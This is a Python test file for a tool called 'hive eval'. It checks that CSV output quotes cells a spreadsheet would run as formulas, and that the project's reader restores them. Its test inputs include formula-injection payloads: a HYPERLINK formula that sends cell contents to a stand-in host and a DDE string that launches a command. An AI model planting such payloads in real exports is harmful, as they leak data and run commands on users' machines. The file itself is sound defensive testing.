"""CSV cells that a spreadsheet would run as a formula are neutralised wherever the project
writes CSV (issue 19): labels from untrusted metadata used to reach ``hive eval``'s
``results.csv`` and ``summary.csv`` as they were (``=HYPERLINK(…)`` is a formula). One writer
(:mod:`mixing.csv_output`); the project's reader gives the original strings back."""

from __future__ import annotations

import csv
import io

import pytest

from mixing.csv_output import CsvWriter, neutralise, read_rows, restore
from mixing.cli import main
from mixing.metadata_io import iter_records, write_jsonl

HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1, "click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "'=already quoted", "''@twice"]


@pytest.mark.parametrize("text", HOSTILE + ["plain", "-3.5", "1e-3", "-inf", "'", "'-5", "", "a=b", "dog's"])
def test_neutralise_then_restore_is_the_identity(text):
    cell = neutralise(text)
    assert restore(cell) == text
    body = cell.lstrip("'")
    if body[:1] in ("=", "+", "-", "@", "\t", "\r"):
        try:
            float(body)
        except ValueError:
            assert cell.startswith("'") and cell != text, cell  # a formula-looking string is quoted
    assert neutralise(3.25) == 3.25 and neutralise(None) is None


def test_the_writer_quotes_every_formula_cell_and_the_reader_restores_them():
    buf = io.StringIO(newline="")
    w = CsvWriter(buf, ["label", "value"])
    w.writeheader()
    for i, label in enumerate(HOSTILE):
        w.writerow({"label": label, "value": f"{-1.5 * i:.6f}"})
    buf.seek(0)
    raw = list(csv.DictReader(io.StringIO(buf.getvalue(), newline="")))
    for row in raw:
        assert row["label"].startswith("'"), row  # nothing a spreadsheet would evaluate
    assert [r["value"] for r in raw][1] == "-1.500000"  # numbers stay numbers
    buf.seek(0)
    assert [r["label"] for r in read_rows(buf)] == HOSTILE


@pytest.fixture(scope="module")
def hostile_render(toy_corpus, tmp_path_factory):
    """A render of two test mixtures whose labels are spreadsheet formulas."""
    recs = list(iter_records(toy_corpus.parquet_dir, split="test", num_sources=2))[:2]
    labelled = []
    for k, rec in enumerate(recs):
        sources = tuple(s.replace(label=HOSTILE[(2 * k + i) % len(HOSTILE)]) for i, s in enumerate(rec.sources))
        labelled.append(rec.replace(sources=sources))
    folder = tmp_path_factory.mktemp("csv")
    write_jsonl(labelled, folder / "metadata.jsonl")
    out = folder / "rendered"
    assert main(["render", "--metadata", str(folder / "metadata.jsonl"), "--dataset-paths",
                 str(toy_corpus.dataset_paths), "--output", str(out), "--no-progress"]) == 0
    return out, [s.label for r in labelled for s in r.sources]


@pytest.mark.slow  # end to end over the toy corpus
def test_eval_writes_labels_neutralised_and_they_round_trip(hostile_render, tmp_path):
    rendered, labels = hostile_render
    out = tmp_path / "eval"
    assert main(["eval", "--rendered", str(rendered), "--output", str(out), "--no-sdr", "--no-plot",
                 "--no-progress"]) == 0
    for name in ("results.csv", "summary.csv"):
        text = (out / name).read_text(encoding="utf-8")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell)  # only numbers may start so (a negative SI-SDR)
        assert "'=HYPERLINK(" in text
        with open(out / name, encoding="utf-8", newline="") as fh:
            got = {r["label"] for r in read_rows(fh)}
        assert set(labels) <= got, (name, got)
